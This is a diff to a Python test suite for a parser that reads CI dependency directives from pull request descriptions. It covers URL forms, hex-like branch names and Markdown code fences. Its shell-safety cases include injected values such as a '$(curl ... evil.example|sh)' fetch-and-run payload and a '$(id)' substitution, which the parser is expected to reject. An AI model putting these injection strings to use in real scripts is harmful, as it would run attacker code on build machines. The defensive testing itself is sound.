@@ -21,6 +21,8 @@ def parse(body: str | None, config_path: Path | None = None) -> ParsedBody:
                       CONFIG.dependencies)
 
 
+FENCED = "GitHub shows this line as code (it is inside a fenced code block), so it is not applied"
+
 # (id, body, expected refs per dependency, error substring, warning substring)
 CASES = [
     # ---- value forms (DESIGN §3 table) ----
@@ -40,7 +42,17 @@ CASES = [
      {"sglang": PR}, None, None),
     ("pr-url-other-repo", "ci-sglang-pr: https://github.com/fork/sglang/pull/12", {},
      "only its own pull requests", None),
-    ("pr-url-tree", "ci-sglang-pr: https://github.com/sgl-project/sglang/tree/main", {},
+    ("tree-url", "ci-sglang-pr: https://github.com/sgl-project/sglang/tree/sglang-miles-v0.5.20",
+     {"sglang": "sglang-miles-v0.5.20"}, None, None),
+    ("tree-url-slash-and-query", "ci-sglang-pr: https://github.com/sgl-project/sglang/tree/"
+     "feature/rocm?w=1", {"sglang": "feature/rocm"}, None, None),
+    ("tree-url-sha", f"ci-megatron-pr: https://github.com/radixark/Megatron-LM/tree/{SHA}",
+     {"megatron": SHA}, None, None),
+    ("tree-url-other-repo", "ci-sglang-pr: https://github.com/fork/sglang/tree/main", {},
+     "points at fork/sglang", None),
+    ("tree-url-shell", "ci-sglang-pr: https://github.com/sgl-project/sglang/tree/a$(id)", {},
+     "contains '$'", None),
+    ("issue-url", "ci-sglang-pr: https://github.com/sgl-project/sglang/issues/12", {},
      "not a supported URL", None),
     ("pr-zero", "ci-sglang-pr: #0", {}, "not a valid pull request number", None),
     ("pr-too-many-digits", "ci-sglang-pr: #123456789012", {}, "not a valid pull request", None),
@@ -69,6 +81,12 @@ CASES = [
     ("refs-other", "ci-sglang-pr: refs/remotes/origin/main", {}, "not a supported ref", None),
     ("bare-number", "ci-sglang-pr: 1234", {}, "did you mean `#1234`", None),
     ("bare-number-7-digits", "ci-sglang-pr: 1234567", {}, "did you mean `#1234567`", None),
+    ("hex-6-digits-and-letters", "ci-sglang-pr: 123abc", {"sglang": "123abc"}, None,
+     "`123abc` is read as a branch name; if you meant a commit, give its full 40-digit SHA"),
+    ("hex-4-digits-and-letters", "ci-sglang-pr: a1b2", {"sglang": "a1b2"}, None,
+     "read as a branch name"),
+    ("hex-word-is-a-branch", "ci-sglang-pr: cafe", {"sglang": "cafe"}, None, None),
+    ("hex-7-is-a-short-commit", "ci-sglang-pr: 123abcd", {"sglang": "123abcd"}, None, None),
     # ---- values that end up in other people's scripts (shell-safe, DESIGN §3) ----
     ("shell-command-substitution", "ci-megatron-pr: $(curl${IFS}-s${IFS}evil.example|sh)", {},
      "contains '$': a branch or tag name here may use only letters, digits and . _ / + -", None),
@@ -132,18 +150,18 @@ CASES = [
     ("word-joiner-in-key", "ci-\u2060sglang-pr: #12", {}, "U+2060 WORD JOINER", None),
     ("leading-bom-of-body", "\ufeffci-sglang-pr: #12", {"sglang": PR}, None, None),
     # ---- Markdown structure (defect 1: examples are not directives) ----
-    ("fenced-backticks", "```\nci-sglang-pr: #12\n```", {}, None, None),
-    ("fenced-tildes", "~~~\nci-sglang-pr: #12\n~~~", {}, None, None),
-    ("fenced-info-string", "```yaml\nci-sglang-pr: #12\n```", {}, None, None),
+    ("fenced-backticks", "```\nci-sglang-pr: #12\n```", {}, None, FENCED),
+    ("fenced-tildes", "~~~\nci-sglang-pr: #12\n~~~", {}, None, FENCED),
+    ("fenced-info-string", "```yaml\nci-sglang-pr: #12\n```", {}, None, FENCED),
     ("fence-closed-by-longer", "```\nci-sglang-pr: #12\n`````\nci-megatron-pr: main",
-     {"megatron": "main"}, None, None),
-    ("fence-not-closed-by-shorter", "````\n```\nci-sglang-pr: #12\n````", {}, None, None),
-    ("fence-not-closed-by-other-char", "```\n~~~\nci-sglang-pr: #12\n```", {}, None, None),
+     {"megatron": "main"}, None, FENCED),
+    ("fence-not-closed-by-shorter", "````\n```\nci-sglang-pr: #12\n````", {}, None, FENCED),
+    ("fence-not-closed-by-other-char", "```\n~~~\nci-sglang-pr: #12\n```", {}, None, FENCED),
     ("fence-then-directive", "```\nexample\n```\nci-sglang-pr: #12", {"sglang": PR}, None, None),
-    ("fence-unclosed", "```\nci-sglang-pr: #12", {}, None, None),
-    ("fence-in-list-item", "- ```\n  ci-sglang-pr: #12\n  ```", {}, None, None),
-    ("fence-in-quote", "> ```\n> ci-sglang-pr: #12\n> ```", {}, None, None),
-    ("fence-indented-3", "   ```\nci-sglang-pr: #12\n   ```", {}, None, None),
+    ("fence-unclosed", "```\nci-sglang-pr: #12", {}, None, FENCED),
+    ("fence-in-list-item", "- ```\n  ci-sglang-pr: #12\n  ```", {}, None, FENCED),
+    ("fence-in-quote", "> ```\n> ci-sglang-pr: #12\n> ```", {}, None, FENCED),
+    ("fence-indented-3", "   ```\nci-sglang-pr: #12\n   ```", {}, None, FENCED),
     ("backtick-info-with-backtick-not-fence", "``` a`b\nci-sglang-pr: #12", {"sglang": PR},
      None, None),
     ("comment-one-line", "<!-- ci-sglang-pr: #12 -->", {}, None, None),
@@ -170,8 +188,8 @@ CASES = [
      "looks like a directive but is not"),
     ("bold-key", "**ci-sglang-pr:** #12", {}, None, "looks like a directive but is not"),
     ("checkbox", "- [ ] ci-sglang-pr: #12", {}, None, "looks like a directive but is not"),
-    ("equals-sign", "ci-sglang-pr = #12", {}, None, "looks like a directive but is not"),
-    ("mid-sentence", "Please set ci-sglang-pr: #12 here", {}, None, "looks like a directive"),
+    ("equals-sign", "ci-sglang-pr = #12", {}, "`=` stands where the key needs `:`", None),
+    ("mid-sentence", "Please set ci-sglang-pr: #12 here", {}, None, None),
     ("inline-code-example", "Write `ci-sglang-pr: #12` to test", {}, None, None),
     ("prose-mention", "The ci-sglang-pr directive is documented", {}, None, None),
     ("unrelated-colons", "Fixes: #99\nNote: nothing\nhttps://example.com", {}, None, None),
